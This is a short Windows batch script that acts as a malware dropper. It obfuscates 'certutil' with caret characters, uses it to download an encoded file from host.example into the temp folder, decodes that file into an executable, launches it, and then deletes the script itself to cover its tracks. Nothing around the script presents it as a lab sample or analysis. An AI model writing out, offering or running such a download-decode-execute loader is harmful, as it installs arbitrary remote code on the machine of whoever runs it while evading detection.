@echo off
set a=cert^util
c^ertut^il -url^cache -split -f http://host.example/e.txt %TEMP%\e.txt
certutil -decode %TEMP%\e.txt %TEMP%\e.exe
start "" %TEMP%\e.exe
del "%~f0"
